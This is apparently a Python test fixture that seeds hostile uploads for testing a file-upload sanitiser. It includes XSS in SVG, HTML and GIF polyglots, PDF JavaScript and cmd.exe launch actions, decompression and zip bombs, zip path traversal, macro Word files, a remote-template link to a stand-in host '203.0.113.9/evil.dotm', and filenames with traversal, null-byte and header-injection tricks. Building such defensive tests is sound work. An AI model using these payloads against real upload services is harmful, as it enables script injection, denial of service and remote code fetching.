"""Hostile uploads by the hundred, each made from a number, so that every run makes the same ones."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

from tests.uploads.files import image, pdf, stream, word

CANARY = b"CANARY-25.123456N-118.654321E"
SCRIPT = b"<script>alert('" + CANARY + b"')</script>"
GPS_TAG, GPS_IN_EXIF = 0x8825, 0x0100


@dataclass(frozen=True)
class Hostile:
    """One upload. `taken` says what may become of it: refused, or taken once it has been made harmless."""

    what: str
    name: str
    content: bytes
    declared: str
    taken: bool


Maker = Callable[[random.Random], tuple[bytes, bool]]


def hostile(number: int) -> Hostile:
    chance = random.Random(number)
    what = list(MAKERS)[number % len(MAKERS)]
    content, taken = MAKERS[what](chance)
    name = NAMES[(number // len(MAKERS) + number) % len(NAMES)]
    return Hostile(what, name, content, chance.choice(DECLARED), taken)


NAMES = [
    "notice.pdf",
    "notice.pdf.html",
    "notice.html",
    "照片.svg",
    "photo.jpg.php",
    "../../../../etc/passwd.pdf",
    "..\\..\\windows\\system32\\notice.docx",
    "notice\x00.pdf",
    "a" * 5000 + ".pdf",
    "通知" * 200 + ".docx",
    "\u202efdp.exe",
    '"; filename="evil.html',
    "notice.pdf;.html",
    "line\r\nX-Injected: yes.pdf",
    ".htaccess",
    "",
    "con.pdf",
    "通知.PDF%00.html",
    "<img src=x onerror=alert(1)>.pdf",
    "𝓃otice.xhtml",
]
DECLARED = [
    "application/pdf",
    "text/html",
    "image/svg+xml",
    "image/jpeg",
    "application/octet-stream",
    "application/x-httpd-php",
    "text/html; charset=utf-7",
]


def _exif(chance: random.Random) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = CANARY.decode()  # description
    exif[0x9286] = CANARY  # comment
    exif[0x0112] = chance.choice([1, 3, 6, 8])  # orientation
    gps = exif.get_ifd(GPS_TAG)
    gps.update({1: "N", 2: (25.0, 7.0, 24.4), 3: "E", 4: (118.0, 39.0, 15.5), 27: CANARY})
    exif[GPS_TAG] = gps
    return exif


def _xmp() -> bytes:
    return b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>' + CANARY + b"</exif:GPSLatitude></x:xmpmeta>"


def _size(chance: random.Random) -> tuple[int, int]:
    return chance.randint(40, 400), chance.randint(40, 400)


def _segment(marker: int, body: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg_with_position(chance):
    return image("JPEG", _size(chance), exif=_exif(chance)), True


def jpeg_with_xmp_and_iptc(chance):
    plain = image("JPEG", _size(chance))
    xmp = _segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + _xmp())
    iptc = b"\x1c\x02\x5a" + struct.pack(">H", len(CANARY)) + CANARY
    irb = _segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0" + struct.pack(">I", len(iptc)) + iptc)
    return plain[:2] + xmp + irb + _segment(0xFE, CANARY) + plain[2:], True


def jpeg_with_tail(chance):
    return image("JPEG", _size(chance)) + chance.choice(
        [SCRIPT, word({"a.js": SCRIPT}), pdf(), b"\0" * 40]
    ) + CANARY, True


def jpeg_with_thumbnail(chance):
    exif = _exif(chance)
    inner = image("JPEG", (32, 32), exif=_exif(chance))
    return image("JPEG", _size(chance), exif=exif.tobytes() + inner), True


def png_with_position(chance):
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", CANARY.decode())
    told.add_itxt("XML:com.adobe.xmp", _xmp().decode(), zip=chance.random() < 0.5)
    return image("PNG", _size(chance), pnginfo=told, exif=_exif(chance)), True


def png_with_tail(chance):
    return image("PNG", _size(chance)) + chance.choice([SCRIPT, word(), pdf()]) + CANARY, True


def png_with_own_chunk(chance):
    plain = image("PNG", _size(chance))
    body = b"stEg" + SCRIPT
    chunk = struct.pack(">I", len(SCRIPT)) + body + struct.pack(">I", zlib.crc32(body))
    return plain[:33] + chunk + plain[33:], True


def webp_with_position(chance):
    return image("WEBP", _size(chance), exif=_exif(chance), xmp=_xmp()), False


def heic_like(chance):
    brand = chance.choice([b"heic", b"mif1", b"avif"])
    return struct.pack(">I", 24) + b"ftyp" + brand + b"\0\0\0\0mif1heic" + b"Exif\0\0" + CANARY + chance.randbytes(
        200
    ), False


def _png_header(width: int, height: int, body: bytes) -> bytes:
    def chunk(kind: bytes, inside: bytes) -> bytes:
        return struct.pack(">I", len(inside)) + kind + inside + struct.pack(">I", zlib.crc32(kind + inside))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def huge_png(chance):
    """20,000 × 20,000, and packed so well that it would open to a gigabyte."""
    rows = 20_000 if chance.random() < 0.1 else 20
    return _png_header(20_000, 20_000, zlib.compress(b"\0" * (60_001 * min(rows, 400)), 9)), False


def huge_jpeg(chance):
    """A small JPEG whose header says 20,000 × 20,000."""
    plain = bytearray(image("JPEG", (64, 64)))
    at = plain.index(b"\xff\xc0")
    plain[at + 5 : at + 9] = struct.pack(">HH", 20_000, 20_000)
    return bytes(plain), False


def long_png(chance):
    return _png_header(200_000 + chance.randint(0, 9), 10, zlib.compress(b"\0" * 100)), False


def png_text_bomb(chance):
    plain = image("PNG", (40, 40))
    body = b"zTXtComment\0\0" + zlib.compress(b"\0" * 200_000_000 if chance.random() < 0.02 else b"\0" * 20_000_000, 9)
    chunk = struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))
    return plain[:33] + chunk + plain[33:], False


def broken_image(chance):
    plain = image(chance.choice(["JPEG", "PNG"]), (60, 60))
    return plain[: chance.randint(12, 60)] + chance.randbytes(50), False


def svg_with_script(chance):
    body = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
    return chance.choice([b"", b'<?xml version="1.0"?>\n', b"\xef\xbb\xbf", b"<!-- %PDF-1.7 -->"]) + body, False


def svg_packed(chance):
    return zlib.compress(svg_with_script(chance)[0], 9, wbits=31), False


def html(chance):
    return chance.choice([b"<!doctype html>", b"\xfe\xff", b"  ", b"+ADw-"]) + b"<html>" + SCRIPT, False


def gif_with_script(chance):
    return b"GIF89a/*" + chance.randbytes(4) + b"*/=1;alert('" + CANARY + b"')", False


def gif_with_page(chance):
    out = io.BytesIO()
    Image.new("P", (20, 20)).save(out, "GIF")
    return out.getvalue() + SCRIPT, False


def bmp_or_tiff(chance):
    out = io.BytesIO()
    Image.new("RGB", (20, 20)).save(out, chance.choice(["BMP", "TIFF", "ICO", "PPM"]))
    return out.getvalue(), False


def pdf_with_script(chance):
    action = b"5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    return pdf(
        action, catalog=chance.choice([b"/OpenAction 5 0 R", b"/Names << /JavaScript 5 0 R >>", b"/AA << /WC 5 0 R >>"])
    ), False


def pdf_with_escaped_names(chance):
    action = b"5 0 obj\n<< /S /J#61vaScript /#4a#53 (app.alert\\(1\\)) >>\nendobj\n"
    return pdf(action, catalog=b"/Open#41ction 5 0 R"), False


def pdf_with_packed_script(chance):
    inside = b"5 0 " + b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    entries = chance.choice(
        [b"/Type /ObjStm /N 1 /First 4", b"/Type 9 0 R /N 1 /First 4", b"/Type/Obj#53tm /N 1 /First 4"]
    )
    return pdf(stream(6, inside, entries), catalog=b"/Pieces 5 0 R"), False


def pdf_with_launch(chance):
    action = chance.choice([b"/Launch /F (cmd.exe)", b"/SubmitForm /F (x)", b"/GoToE /T (x)", b"/ImportData /F (x)"])
    return pdf(b"5 0 obj\n<< /S " + action + b" >>\nendobj\n"), False


def pdf_with_file(chance):
    inner = stream(6, SCRIPT, b"/Type /EmbeddedFile")
    return pdf(inner, b"5 0 obj\n<< /Type /Filespec /EF << /F 6 0 R >> >>\nendobj\n"), False


def pdf_locked(chance):
    return pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 5 0 R"), False


def pdf_bomb(chance):
    inside = b"5 0 " + b" " * (90 * 1024 * 1024)
    return pdf(stream(6, inside, b"/Type /ObjStm /N 1 /First 4")) if chance.random() < 0.1 else pdf_with_tail(chance)[
        0
    ], False


def pdf_with_tail(chance):
    return pdf(
        tail=chance.choice([SCRIPT, word({"word/vbaProject.bin": b"x"}), b"\n<html>", image("JPEG", (20, 20))])
    ), False


def pdf_later(chance):
    return chance.choice([SCRIPT, b"GIF89a", b"MZ", b"\n" * 500]) + pdf(), False


def word_with_macro(chance):
    name = chance.choice(["word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/activeX/activeX1.xml"])
    return word({name: b"Attribute VB_Name"}), False


def word_macro_type(chance):
    return word(types=b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), False


def word_with_object(chance):
    return word({chance.choice(["word/embeddings/oleObject1.bin", "word/media/run.exe"]): b"MZ"}), False


def word_fetching(chance):
    link = (
        b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://203.0.113.9/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return word(
        {"word/_rels/settings.xml.rels": link if chance.random() < 0.7 else link.decode().encode("utf-16")}
    ), False


def zip_bomb(chance):
    return word(
        {"word/media/picture.xml": b"\0" * chance.choice([30, 120 if chance.random() < 0.1 else 40]) * 1024 * 1024}
    ), False


def zip_lying(chance):
    """The header says that little comes out."""
    made = bytearray(word({"word/media/picture.xml": b"\0" * 30 * 1024 * 1024}))
    at = made.rindex(b"PK\x01\x02")
    made[at + 24 : at + 28] = struct.pack("<I", 1000)
    return bytes(made), False


def zip_outside(chance):
    return word({chance.choice(["../../evil.xml", "/etc/evil.xml", "word\\..\\evil.xml"]): b"x"}), False


def zip_many(chance):
    return word({f"word/{number}.xml": b"x" for number in range(2100)}), False


def zip_tail(chance):
    return word(comment=SCRIPT) if chance.random() < 0.5 else word() + SCRIPT, False


def other_office(chance):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(chance.choice(["xl/workbook.xml", "ppt/presentation.xml", "META-INF/MANIFEST.MF"]), b"x")
    return out.getvalue(), False


def program(chance):
    return chance.choice(
        [b"MZ\x90\0", b"\x7fELF", b"#!/bin/sh\n", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"<?php ", b""]
    ) + chance.randbytes(chance.choice([0, 300])), False


MAKERS: dict[str, Maker] = {
    maker.__name__: maker
    for maker in (
        jpeg_with_position,
        jpeg_with_xmp_and_iptc,
        jpeg_with_tail,
        jpeg_with_thumbnail,
        png_with_position,
        png_with_tail,
        png_with_own_chunk,
        webp_with_position,
        heic_like,
        huge_png,
        huge_jpeg,
        long_png,
        png_text_bomb,
        broken_image,
        svg_with_script,
        svg_packed,
        html,
        gif_with_script,
        gif_with_page,
        bmp_or_tiff,
        pdf_with_script,
        pdf_with_escaped_names,
        pdf_with_packed_script,
        pdf_with_launch,
        pdf_with_file,
        pdf_locked,
        pdf_bomb,
        pdf_with_tail,
        pdf_later,
        word_with_macro,
        word_macro_type,
        word_with_object,
        word_fetching,
        zip_bomb,
        zip_lying,
        zip_outside,
        zip_many,
        zip_tail,
        other_office,
        program,
    )
}
